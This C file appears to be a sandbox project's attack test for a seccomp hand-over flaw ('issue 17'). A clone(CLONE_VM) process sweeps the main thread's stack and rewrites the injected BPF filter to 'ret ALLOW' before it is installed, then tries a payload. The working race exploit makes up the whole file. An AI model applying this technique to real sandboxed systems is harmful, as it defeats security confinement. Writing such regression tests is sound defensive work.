/* SPDX-License-Identifier: MIT */
/*
 * Attack of issue 17: a process made with clone(CLONE_VM), not a thread,
 * shares the program's memory; the hand-over held the thread group
 * alone.  It sweeps the main thread's stack for the injected sock_fprog
 * and overwrites the program's first instruction with `ret ALLOW`, for as
 * long as the main thread goes through its phases; then (--attack) the
 * main thread tries the payload in serving.  Without CAP_SYS_ADMIN the
 * filter cannot be read back and the count alone passed.  With every
 * task that shares the memory held, the scanner never sees the program.
 * --in-child: all of it in a forked child, whose memory is its own at its
 * birth (sysphase holds nobody for it) until it makes the scanner: the
 * clone(CLONE_VM) must end that, or the scanner runs during the
 * hand-over.  The parent ends as the child did (128 + a signal).
 */
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <sys/mman.h>
#include <sys/wait.h>

#include "attack.h"

static volatile int stop_scan, scanning;
static volatile unsigned long found;
static uintptr_t stack_lo, stack_hi;
/* Where the main thread's stack pointer is, about: the injection writes just below it. */
static volatile uintptr_t near_sp;

/* The main thread's stack mapping, from /proc/self/maps. */
static void find_stack(void)
{
	char buf[65536];
	int fd = open("/proc/self/maps", O_RDONLY | O_CLOEXEC);
	ssize_t n = fd >= 0 ? read(fd, buf, sizeof(buf) - 1) : -1;
	char *line;

	if (fd >= 0)
		close(fd);
	if (n <= 0)
		_exit(2);
	buf[n] = '\0';
	line = strstr(buf, "[stack]");
	if (!line)
		_exit(2);
	while (line > buf && line[-1] != '\n')
		line--;
	if (sscanf(line, "%lx-%lx", &stack_lo, &stack_hi) != 2)
		_exit(2);
}

static int scanner(void *arg)
{
	(void)arg;
	uintptr_t lo, hi;

	scanning = 1;
	while (!near_sp)
		;
	/* The 4 KiB under the main thread's frame, where the injection writes: a sweep takes a
	 * microsecond. */
	hi = near_sp & ~(uintptr_t)7;
	lo = hi - 4096 > stack_lo ? hi - 4096 : stack_lo;
	if (hi > stack_hi)
		hi = stack_hi;
	while (!stop_scan) {
		found += rewrite_fprogs(lo, hi);
	}
	/* No libc exit: it would run atexit handlers on memory the main thread still uses. */
	syscall(SYS_exit, 0);
	return 0;
}

static void grow_stack(void)
{
	volatile char deep[256 * 1024];

	memset((char *)deep, 0, sizeof(deep));
}

static int attack_body(int argc, char **argv)
{
	size_t size = 256 * 1024;
	char *stack = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	volatile char here;
	pid_t child;
	int status;

	if (stack == MAP_FAILED)
		return 2;
	int s = socket(AF_INET, SOCK_STREAM, 0); /* init allows sockets: a rewrite shows */

	if (s < 0)
		return 2;
	close(s);
	grow_stack();
	find_stack();
	/* A process of its own (no CLONE_THREAD) in the same memory. */
	child = clone(scanner, stack + size, CLONE_VM | SIGCHLD, NULL);
	if (child < 0)
		return 2;
	while (!scanning)
		; /* no syscall: the recording and the runs see the same calls per phase */
	near_sp = (uintptr_t)&here;
	enter_ready();
	enter_serving();
	stop_scan = 1;
	if (waitpid(child, &status, 0) != child)
		return 2;
	say("clone_vm: found the program %lu times\n", found);
	if (attacking(argc, argv))
		payload("clone_vm");
	return 0;
}

int main(int argc, char **argv)
{
	bool in_child = false;
	pid_t child;
	int status;

	for (int i = 1; i < argc; i++)
		in_child |= strcmp(argv[i], "--in-child") == 0;
	if (!in_child)
		return attack_body(argc, argv);
	child = fork();
	if (child < 0)
		return 2;
	if (child == 0)
		_exit(attack_body(argc, argv));
	if (waitpid(child, &status, 0) != child)
		return 2;
	return WIFSIGNALED(status) ? 128 + WTERMSIG(status) : WEXITSTATUS(status);
}
